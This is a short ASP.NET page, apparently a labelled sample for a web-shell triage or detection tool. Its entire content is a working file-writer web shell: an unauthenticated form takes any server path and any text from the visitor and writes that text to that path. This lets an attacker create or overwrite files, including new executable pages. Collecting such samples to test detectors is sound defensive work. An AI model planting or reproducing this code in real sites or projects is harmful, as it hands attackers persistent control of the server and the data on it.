<%@ Page Language="C#" %>
<%-- triage-expect: triage_aspx_request_file_writer --%>
<script runat="server">
    void Save_Click(object s, EventArgs e) {
        var fi = new System.IO.FileInfo(pathBox.Text);
        using (var w = fi.CreateText()) { w.Write(bodyBox.Text); }
        status.Text = "saved";
    }
</script>
<form runat="server"><asp:TextBox ID="pathBox" runat="server" /><asp:TextBox ID="bodyBox" runat="server" TextMode="MultiLine" />
<asp:Button runat="server" Text="Save" OnClick="Save_Click" /><asp:Label ID="status" runat="server" /></form>
